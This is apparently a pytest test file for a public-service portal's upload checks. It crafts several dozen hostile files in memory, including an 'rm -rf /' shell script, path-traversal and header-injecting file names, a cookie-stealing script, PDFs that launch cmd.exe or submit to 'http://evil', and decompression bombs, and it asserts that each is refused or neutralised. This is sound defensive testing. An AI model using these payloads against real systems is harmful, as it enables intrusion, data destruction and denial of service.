"""Forty files that mean harm, made in memory: each is refused with its cure or stored so that it can do nothing."""

import io
import struct
import threading
import weakref
import zipfile
import zlib
from time import process_time, sleep

import pytest
from PIL import Image, ImageFile
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader

from apps.applications import actions, uploads
from apps.applications.models import Attachment, InspectionPhoto, Member
from apps.applications.uploads import Limits, fit, together
from apps.gateway.twins import EICAR
from apps.issuance.models import HandOver
from apps.kit import files
from apps.kit.errors import Forbidden, NotYours, Refused
from tests import inspection_make as im
from tests import make
from tests.people import nothing_written
from tests.web.citizen.test_apply_from_home import browser

PDF = b"%PDF-1.4\n1 0 obj<</Type /Page>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


def picture(kind="PNG", size=(3, 2), **given) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, kind, **given)
    return out.getvalue()


def photo(orientation=1, size=(4, 2), note="拍摄于白沙路 1 号") -> bytes:
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = orientation, note
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 10.0, 0.0)})
    return picture("JPEG", size, exif=exif)


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")


def noted_png(text: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", text, zip=True)
    return picture(pnginfo=info)


def zipped(name="a.txt", body=b"x" * 100, last=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.comment = last
        packed.writestr(name, body)
    return out.getvalue()


def pdf(described: bytes, stream: bytes = b"", names: bytes = b"") -> bytes:
    body = b"1 0 obj<<%s>>stream\n%s\nendstream endobj\n" % (described, stream) if described else b""
    return b"%PDF-1.5\n" + body + b"2 0 obj<<%s>>endobj\ntrailer<<>>\n%%%%EOF\n" % names


def hidden(names: bytes) -> bytes:
    """A PDF whose objects lie compressed."""
    return pdf(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"3 0 <<%s>>" % names))


def within_another(times: int, length: int) -> bytes:
    """Streams of which each is all that stands behind it, the next ones too, and says nothing for so many bytes."""
    start = b"/Fl stream\n\x78\x01"
    said = b"\0" + struct.pack("<HH", len(start), 0xFFFF ^ len(start)) + start
    return b"%PDF-1.4\n" + start + said * (times - 1) + b"\0\0\0\xff\xff" * (length // 5)


RUNS = b"3 0 <</S /JavaScript /JS (x)>>"
SEGMENT = b"\xff\xeb" + (len(SCRIPT) + 2).to_bytes(2) + SCRIPT
MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "WordDocument".encode("utf-16-le") + b"\0" * 600
# what it is: (bytes, the name it comes under, the code of the refusal or "" when it is stored, a word of the cure or of the note)
FILES = {
    "nothing": (b"", "身份证.png", "attach.empty", "重新扫描"),
    "blanks": (b" " * 5000, "身份证.png", "attach.type", "真实内容"),
    "page": (SCRIPT, "身份证.png", "attach.type", "真实内容"),
    "page that calls itself an image": (SCRIPT, "a.jpg.html", "attach.type", "真实内容"),
    "svg with a script": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "a.svg", "attach.type", "JPG"),
    "xml with entities": (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ccc">]><a>&b;</a>', "a.pdf", "attach.type", "PDF"),
    "program": (b"MZ\x90\x00" + b"\0" * 200, "营业执照.pdf.exe", "attach.type", "程序"),
    "program of another system": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "a.png", "attach.type", "程序"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "a.png", "attach.type", "真实内容"),
    "zip": (zipped(), "材料.zip", "attach.type", "解压"),
    "zip bomb": (zipped(body=b"\0" * 5_000_000), "a.pdf", "attach.type", "解压"),
    "rar": (b"Rar!\x1a\x07\x00" + b"\0" * 60, "a.rar", "attach.type", "解压"),
    "gzip": (b"\x1f\x8b\x08" + b"\0" * 60, "a.jpg", "attach.type", "解压"),
    "old office file with macros": (MACRO, "申请表.doc", "attach.type", "PDF"),
    "office file with macros": (zipped("word/vbaProject.bin"), "申请表.docm", "attach.type", "PDF"),
    "gif": (picture("GIF"), "a.gif", "attach.type", "转换"),
    "gif in front of a pdf": (b"GIF89a" + PDF, "a.pdf", "attach.type", "PDF"),
    "page in front of a pdf": (SCRIPT + PDF, "a.pdf", "attach.type", "PDF"),
    "photo of an iphone": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 60, "a.jpg", "attach.type", "兼容性"),
    "picture of half its bytes": (picture("JPEG", (400, 400))[:700], "a.jpg", "", "打不开"),
    "head of a picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "a.png", "", "打不开"),
    "picture with wrong sums": (picture().replace(b"IDAT", b"IDAX"), "a.png", "", "打不开"),
    "picture of ten thousand million pixels": (png_of(100_000, 100_000), "a.png", "attach.pixels", "分辨率"),
    "picture that grows": (png_of(20_000, 20_000, b"\0" * 1_000_000), "a.png", "attach.pixels", "分辨率"),
    "note that grows": (
        picture()[:-12] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 3_000_000)) + picture()[-12:],
        "a.png",
        "",
        "打不开",
    ),
    "locked pdf": (PDF + b"/Encrypt 5 0 R", "a.pdf", "attach.active", "密码"),
    "pdf with a script": (pdf(b"", names=b"/OpenAction<</S /JavaScript /JS (app.alert(1))>>"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf with a script spelt in escapes": (PDF + b"/S /J#61vaScript", "a.pdf", "attach.active", "打印成 PDF"),
    "pdf with a script among compressed objects": (hidden(b"/S /JavaScript /JS (x)"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf that starts a program": (pdf(b"", names=b"/S /Launch /F (cmd.exe)"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf that sends itself away": (hidden(b"/S /SubmitForm /F (http://evil)"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf with a film": (hidden(b"/Subtype /RichMedia"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf whose objects are wrapped twice": (
        pdf(b"/Type /ObjStm /Filter [/ASCIIHexDecode]", b"2f4a61766153637269707420>"), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose objects are wrapped in two ways": (
        pdf(b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", zlib.compress(RUNS).hex().encode() + b">"), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose objects are written as differences": (
        pdf(b"/Type /ObjStm /Filter /FlateDecode /DecodeParms<</Predictor 12>>", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose objects are described at length": (
        pdf(b"/Type /ObjStm /Filter /FlateDecode /X (" + b"x" * 1000 + b")", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose description feigns another": (
        pdf(b"/Type /ObjStm /Filter /FlateDecode /X (2 0 obj<</Filter /FlateDecode)", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose objects do not say what they are": (
        pdf(b"/N 1 /First 4 /Filter /FlateDecode", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose description is cut by a remark": (
        pdf(b"/Type /ObjStm /N 1 /First 4 % stream\n/Filter /FlateDecode", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose description is cut by a text": (
        pdf(b"/Filter /FlateDecode /X (stream\n) /N 1 /First 4", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose description has the word in its line": (
        pdf(b"/X (stream) /N 1 /First 4 /Filter /FlateDecode", zlib.compress(RUNS)), "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf whose objects begin behind half an end of a line": (
        hidden(b"/S /JavaScript").replace(b"stream\n", b"stream \r") + pdf(b"/Filter /FlateDecode", zlib.compress(b"1 0 0 1 0 0 cm")),
        "a.pdf", "attach.active", "打印成 PDF",
    ),
    "pdf with a film that runs a script": (pdf(b"", names=b"/S /Rendition /JS (x)"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf with a model that runs a script": (pdf(b"", names=b"/Subtype /U3D /OnInstantiate 9 0 R"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf with a form of its own language": (pdf(b"", names=b"/AcroForm<</XFA[9 0 R]>>"), "a.pdf", "attach.active", "打印成 PDF"),
    "pdf of very many streams": (PDF + b"/Fl stream\n" * 50_001, "a.pdf", "attach.bomb", "打印成 PDF"),
    "pdf packed twice": (
        pdf(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"\0" * 100_000))), "a.pdf", "attach.bomb", "打印成 PDF",
    ),
    "pdf whose objects grow": (
        pdf(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"\0" * 17_000_000)), "a.pdf", "attach.bomb", "打印成 PDF",
    ),
    "pdf whose streams read one another": (within_another(600, 2**20), "a.pdf", "attach.bomb", "打印成 PDF"),
    "zip behind a pdf": (PDF + zipped(), "a.pdf", "attach.mixed", "重新导出"),
    "zip behind a pdf that ends like one": (PDF + zipped(last=b"%%EOF\n"), "a.pdf", "attach.mixed", "重新导出"),
    "pdf of too many pages": (pdf(b"", names=b"/Type /Page " * 101), "a.pdf", "attach.pages", "分成几份"),
    "the scanner's test file in a pdf": (PDF + EICAR, "a.pdf", "attach.infected", "杀毒"),
    "page behind a picture": (picture() + SCRIPT, "x.html", "", ""),
    "zip behind a photo": (picture("JPEG") + zipped(), "a.jpg", "", ""),
    "zip behind a photo that ends like one": (picture("JPEG") + zipped(last=b"\xff\xd9"), "a.jpg", "", ""),
    "zip behind a picture that ends like one": (picture() + zipped(last=b"IEND\xaeB`\x82"), "a.png", "", ""),
    "zip in the last of a photo": (picture("JPEG")[:-2] + zipped(last=b"\xff\xd9"), "a.jpg", "", ""),
    "script in a segment of its own in a photo": (picture("JPEG")[:2] + SEGMENT + picture("JPEG")[2:], "a.jpg", "", ""),
    "script in a chunk of its own in a picture": (picture()[:33] + chunk(b"prVt", SCRIPT) + picture()[33:], "a.png", "", ""),
    "script in the notes of a photo": (photo(note=SCRIPT.decode()), "a.jpg", "", ""),
    "script in the notes of a picture": (noted_png(SCRIPT.decode()), "a.png", "", ""),
    "photo with notes of a megabyte": (photo(note="x" * 60_000), "a.jpg", "", ""),
    "pdf cut short": (PDF[:30], "a.pdf", "", ""),
    "path": (picture(), "../../../etc/passwd", "", ""),
    "path of another system": (picture(), "..\\..\\windows\\win.ini.png", "", ""),
    "name that turns": (picture(), "身份证\u202egnp.exe", "", ""),
    "name with lines": (picture(), "a\r\nContent-Type: text/html\r\n\r\n.png", "", ""),
    "name of nothing": (picture(), "\0\u200b", "", ""),
    "name without an end": (picture(), "名" * 3000 + ".png", "", ""),
    "name of two kinds": (picture(), "a.php.png", "", ""),
}  # fmt: skip


def test_forty_hostile_files(world, monkeypatch):
    """As a citizen sends them, in a process that prints PDFs too; then every stored one is fetched."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    case, me = make.from_home(submit=False), make.actor("enterprise")
    lines, stored, wrong = [entry.code for entry in case.materials.all()], [], []
    assert len(FILES) >= 40
    for place, (what, (content, name, code, cure)) in enumerate(FILES.items()):
        given = {"application": case.pk, "material": lines[place % len(lines)], "name": name, "content": content}
        try:
            row = actions.attach(by=me, **given)
            stored.append((what, row))
            told = ("", row.note)
        except Refused as refusal:
            told = (refusal.code, refusal.message)
        if told[0] != code or cure not in told[1]:
            wrong.append((what, told))
    assert wrong == []
    client = browser("enterprise")
    for what, row in stored:
        answer = client.get(f"/files/attachment/{row.pk}/", headers={"Range": "bytes=2-2,0-", "Accept": "text/html"})
        assert answer.status_code == 200, what
        assert answer["Content-Disposition"].startswith("attachment; filename*=UTF-8''"), what
        assert answer["X-Content-Type-Options"] == "nosniff" and "sandbox" in answer["Content-Security-Policy"]
        assert answer["Content-Type"] in ("image/png", "image/jpeg", "application/pdf")
        assert row.name.isprintable() and not set(row.name) & set("/\\") and len(row.name) <= 110, what
        assert row.name.endswith((".png", ".jpg", ".pdf"))
        assert b"script" not in answer.content and b"PK\x05\x06" not in answer.content, what
        assert files.read(row.path) == answer.content


def test_nothing_of_a_refused_file_is_kept(world):
    case, me = make.from_home(submit=False), make.actor("enterprise")
    with nothing_written(Attachment):
        for content, name, code, _ in FILES.values():
            if code and code != "attach.infected":
                with pytest.raises(Refused):
                    actions.attach(by=me, application=case.pk, material="id_card", name=name, content=content)


@pytest.mark.parametrize("orientation", [3, 6, 8])
def test_a_photo_is_turned_upright_and_tells_nothing_else(orientation):
    kept = fit(photo(orientation, (40, 20))).content
    upright = Image.open(io.BytesIO(kept))
    assert upright.size == ((40, 20) if orientation == 3 else (20, 40))
    assert not upright.getexif() and "白沙路".encode() not in kept


def test_what_needs_no_mending_is_kept_byte_for_byte():
    for content in (picture(), picture("JPEG"), PDF, picture("JPEG", dpi=(300, 300))):
        assert fit(content).content == content


@pytest.mark.parametrize("colours", [{}, {"comment": SCRIPT}, {"icc_profile": SCRIPT}])
@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
@pytest.mark.parametrize("behind", [b"", SCRIPT])
def test_nothing_that_a_picture_brings_along_is_kept(kind, colours, behind):
    kept = fit(picture(kind, **colours) + behind).content
    upright = Image.open(io.BytesIO(kept))
    upright.load()
    assert set(upright.info) <= uploads.HARMLESS and b"script" not in kept
    assert kept.endswith(b"\xff\xd9" if kind == "JPEG" else b"IEND\xaeB`\x82")


@pytest.mark.parametrize(
    ("paper", "pages"),
    [
        (hidden(b"/Type /Page /A 1 /Type /Page"), 2),  # pages that lie compressed are counted
        (pdf(b"/Type /ObjStm /N 1 /First 4", b"3 0 <</Type /Page>>"), 1),  # and objects that lie open are read once
        (pdf(b"/Filter /FlateDecode", zlib.compress(b"BT (on /JavaScript and /Encrypt) Tj ET"), b"/Type /Page"), 1),  # a text does nothing
        (pdf(b"/Filter /ASCIIHexDecode", b"00>", b"/Type /Pages"), 0),
        (pdf(b"/Filter /DCTDecode", b"\xd8/XFA\x91", b"/Type /Page"), 1),  # nor do four bytes of a scan
    ],
)
def test_a_paper_that_does_nothing_is_kept_as_it_came(paper, pages):
    assert (fit(paper).pages, fit(paper).content) == (pages, paper)


def test_half_a_picture_is_none_though_the_printer_puts_up_with_halves(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert fit(picture("JPEG", (400, 400))[:700]).note == uploads.BROKEN and ImageFile.LOAD_TRUNCATED_IMAGES is True


def test_what_just_fits_is_kept(monkeypatch):
    monkeypatch.setattr(uploads, "PIXELS", 6)
    assert fit(picture(size=(3, 2))).content and fit(photo(size=(3, 2))).note == ""
    with pytest.raises(Refused, match="像素太多"):
        fit(picture(size=(7, 1)))
    assert fit(PDF + b" " * (2**20 - len(PDF)), Limits(2**20, 1)).pages == 1
    assert fit(pdf(b"", names=b"/Type /Page " * 2), Limits(2**20, 2)).pages == 2
    together([picture()] * 2, Limits(2**20, 2))


def test_pictures_become_one_pdf_in_their_order():
    paper = together([picture(size=(30, 20)), photo(6, (40, 20)), picture("JPEG", (2600, 2500))], Limits.of({}))
    kept = fit(paper)
    assert (kept.kind, kept.pages) == ("application/pdf", 3)
    assert kept.content == paper
    with pytest.raises(Refused, match="第 2 张") as told:
        together([picture(), PDF], Limits.of({}))
    assert told.value.code == "attach.type"


def test_many_large_pictures_lie_in_the_memory_one_by_one(monkeypatch):
    """Plain ones of a few kilobytes each, sixty in a form: unpacked together they would take gigabytes."""
    living, most, plain = [], 0, uploads._on_white

    def counted(opened):
        nonlocal most
        living.append(weakref.ref(page := plain(opened)))
        most = max(most, sum(one() is not None for one in living))
        return page

    monkeypatch.setattr(uploads, "_on_white", counted)
    paper = PdfReader(io.BytesIO(together([picture(size=(500, 700 + n)) for n in range(8)] + [picture("JPEG", (3000, 4000))], Limits.of({}))))
    assert most == 1
    assert [tuple(page.images[0].image.size) for page in paper.pages] == [*((500, 700 + n) for n in range(8)), (2480, 3307)]
    assert paper.pages[8].mediabox.width == pytest.approx(2480 * 72 / 300, abs=0.01) and paper.metadata is None


def test_two_large_pictures_at_once_wait_for_each_other(monkeypatch):
    """Sent by as many threads as there are: one of eighty million pixels takes half a gigabyte while it is looked at."""
    looked, alone = [], uploads._alone

    def slow(opened, content):
        looked.append("in")
        sleep(0.02)
        looked.append("out")
        return alone(opened, content)

    monkeypatch.setattr(uploads, "_alone", slow)
    threads = [threading.Thread(target=fit, args=(picture(),)) for _ in range(4)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    assert looked == ["in", "out"] * 4


def test_the_catalogue_sets_pages_and_size_of_a_material(settings):
    assert Limits.of({"max_pages": 2, "max_mb": 1}) == Limits(2**20, 2)
    assert Limits.of({"max_mb": 500}).size == settings.UPLOAD_LIMIT
    with pytest.raises(Refused, match="最多 2 页"):
        fit(pdf(b"", names=b"/Type /Page " * 3), Limits.of({"max_pages": 2}))
    with pytest.raises(Refused, match="最多 2 页"):
        together([picture()] * 3, Limits.of({"max_pages": 2}))
    with pytest.raises(Refused, match="超过 1 MB"):
        fit(PDF + b" " * 2**20, Limits.of({"max_mb": 1}))


def test_no_paper_is_looked_at_for_long():
    """Each of these few bytes had a process, and with it all who waited for it, stand still for a minute."""
    starts, spelt = PDF + b"stream" * 20_000, b"1 0 " + b"#41" * 5_000_000
    holder = b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>stream\n" + zlib.compress(spelt) + b"\nendstream\n"
    began = process_time()
    assert fit(starts).pages == 1
    for paper in (PDF + holder, PDF + b"#41" * 1_000_000):
        with pytest.raises(Refused, match="少见的方式"):
            fit(paper)
    assert process_time() - began < 4
    assert fit(PDF + b"#41" * 1_000).pages == 1


def test_what_is_sent_by_who_may_not_send_it_is_not_looked_at(world, days, monkeypatch):
    """It costs a processor seconds, and the scanner a question: at these doors anybody who can sign in had it unpacked before he was asked."""
    looked: list[str] = []
    monkeypatch.setattr("apps.applications.actions.closing.fit", lambda *a: looked.append("paper"))
    monkeypatch.setattr("apps.applications.actions.inspection_photos.fit", lambda *a, **b: looked.append("photo"))
    member, visit = make.sealed(), im.on_the_day(days, im.notified())
    given = make.collection(method="agent", relation="agent", proxy_evidence=im.PNG)
    for who, refusal in (("citizen", NotYours), ("enterprise", Forbidden), ("scjg-reviewer", Forbidden), ("city-issue", NotYours)):
        with nothing_written(Member, HandOver), pytest.raises(refusal):
            actions.hand_over(by=make.actor(who), application=member.application_id, members=[member.pk], collection=given)
    for who, refusal in (("citizen", NotYours), ("cixi-clerk", Forbidden), ("zhujian-reviewer", NotYours)):
        with nothing_written(InspectionPhoto), pytest.raises(refusal):
            actions.add_photo(by=make.actor(who), inspection=visit.pk, name="a.png", content=im.PNG)
    assert looked == []
